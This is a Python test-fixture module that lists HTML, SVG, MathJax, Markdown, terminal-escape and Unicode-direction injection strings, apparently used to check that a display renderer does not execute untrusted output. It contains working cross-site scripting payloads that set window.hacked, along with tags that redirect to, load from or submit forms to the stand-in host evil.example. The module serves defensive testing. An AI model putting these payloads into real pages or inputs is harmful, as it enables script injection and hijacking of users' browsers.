"""Texts that would do something in a page that takes them for more than texts. Each that ran would
set ``window.hacked``, or ask ``evil.example`` for something."""

from __future__ import annotations

from typing import Any

SCRIPT = "<script>window.hacked = 1</script>"
TEXTS = {
    "a script tag": SCRIPT,
    "a handler": "<img src=x onerror='window.hacked = 1'>",
    "an address": "<a id=bait href='javascript:window.hacked = 1'>click</a>",
    "an SVG": "<svg onload='window.hacked = 1'><script>window.hacked = 1</script></svg>",
    "a way out of a text": f"</pre></dd></title></style></iframe>{SCRIPT}",
    "a way out of an attribute": f"\"'>{SCRIPT}<b x=\"' onmouseover='window.hacked = 1",
    "MathJax": r"$$\href{javascript:window.hacked=1}{x}$$ \(\require{html}\style{}{x}\)",
    "a redirection": "<meta http-equiv=refresh content='0;url=http://evil.example/refresh'>",
    "a style": "<style>@import 'http://evil.example/css'; body{background:url(//evil.example)}",
    "an embedded page": "<iframe src=//evil.example/frame></iframe><object data=//evil.example>",
    "a form": "<form action=http://evil.example/form><button id=send autofocus>x</button></form>",
    "a base": "<base href='http://evil.example/'><link rel=stylesheet href=//evil.example/l>",
    "escapes of a terminal": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "directions": "\u202egnp.exe\u2066",
    "many quotes": "\"'`<>&\x00\x08",
}
DISPLAYS: dict[str, dict[str, Any]] = {
    **{f"HTML: {name}": {"text/html": text} for name, text in TEXTS.items()},
    "a script as a type": {"application/javascript": "window.hacked = 1", "text/plain": "<Script>"},
    "an SVG as a type": {"image/svg+xml": TEXTS["an SVG"], "text/plain": "<svg>"},
    "an SVG called PNG": {"image/png": "PHN2ZyBvbmxvYWQ9J3dpbmRvdy5oYWNrZWQ9MSc+PC9zdmc+"},
    "no base64": {"image/png": '"><script>window.hacked = 1</script>', "text/plain": "<Figure>"},
    "Markdown": {"text/markdown": SCRIPT},
    "data of another kind": {"text/html": 5, "image/png": ["x"], "text/plain": {"a": SCRIPT}},
}
